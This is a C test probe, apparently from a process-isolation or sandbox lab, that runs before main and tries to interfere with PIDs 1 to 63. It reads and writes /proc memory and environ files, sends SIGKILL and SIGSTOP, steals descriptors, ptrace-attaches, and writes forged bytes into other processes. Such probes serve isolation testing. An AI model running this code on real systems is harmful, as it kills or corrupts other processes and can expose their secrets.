/* SPDX-License-Identifier: MIT */
/*
 * in lab02, caught by: none
 * Before its work, it tries on every process but its own what one can do to another:
 * signals, ptrace, memory, descriptors, limits, namespaces.
 */
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <sys/uio.h>

#include "tries.h"

static void try_files(pid_t pid)
{
	static const char *const names[] = {"mem", "environ", "cmdline", "maps", "pagemap",
		"auxv", "stack", "syscall", "fd", "fd/0", "fd/1", "fd/3", "root", "cwd", "exe",
		"ns/mnt", "ns/pid", "task", "clear_refs", "oom_score_adj"};
	char path[64];

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		snprintf(path, sizeof(path), "/proc/%d/%s", pid, names[i]);
		try_on(path, can_open(path, O_RDONLY));
		try_on(path, can_open(path, O_WRONLY));
	}
}

static void try_signals(pid_t pid)
{
	siginfo_t info = {.si_code = SI_QUEUE, .si_signo = SIGKILL};
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);

	try(!kill(pid, SIGSTOP));
	try(!kill(pid, SIGKILL));
	try(!syscall(SYS_tgkill, pid, pid, SIGSEGV));
	try(!syscall(SYS_rt_sigqueueinfo, pid, SIGKILL, &info));
	try(!syscall(SYS_pidfd_send_signal, pidfd, SIGKILL, NULL, 0));
	for (int fd = 0; fd < 8; fd++)
		try(syscall(SYS_pidfd_getfd, pidfd, fd, 0) >= 0);
	if (pidfd >= 0)
		close(pidfd);
}

static void try_memory(pid_t pid)
{
	char bytes[8] = "forged!";
	struct iovec local = {bytes, sizeof(bytes)};
	void *pages[] = {(void *)0x400000};
	int nodes[] = {1}, states[1];
	unsigned long from = 1, to = 2;

	try(!ptrace(PTRACE_ATTACH, pid, NULL, NULL));
	try(!ptrace(PTRACE_SEIZE, pid, NULL, NULL));
	for (uintptr_t at = 0x400000; at < 0x410000; at += 0x1000) {
		struct iovec remote = {(void *)at, sizeof(bytes)};

		try(process_vm_readv(pid, &local, 1, &remote, 1, 0) > 0);
		try(process_vm_writev(pid, &local, 1, &remote, 1, 0) > 0);
	}
	try(!syscall(SYS_move_pages, pid, 1, pages, nodes, states, 0));
	try(!syscall(SYS_migrate_pages, pid, 8, &from, &to));
}

static void try_settings(pid_t pid)
{
	struct rlimit limit = {1, 1};
	struct sched_param param = {0};
	cpu_set_t set;

	CPU_ZERO(&set);
	CPU_SET(7, &set);
	try(!prlimit(pid, RLIMIT_CPU, &limit, NULL));
	try(!sched_setaffinity(pid, sizeof(set), &set));
	try(!sched_setscheduler(pid, SCHED_IDLE, &param));
	try(!setpriority(PRIO_PROCESS, (id_t)pid, 19));
	try(!setpgid(pid, 0));
}

BEFORE_MAIN void attack(void)
{
	struct sched_param param = {.sched_priority = 1};

	for (pid_t pid = 1; pid < 64; pid++) {
		if (pid == getpid())
			continue;
		try_files(pid);
		try_signals(pid);
		try_memory(pid);
		try_settings(pid);
	}
	/* To be before them all. */
	try(!setpriority(PRIO_PROCESS, 0, -20));
	try(!sched_setscheduler(0, SCHED_FIFO, &param));
	tell_tries();
}
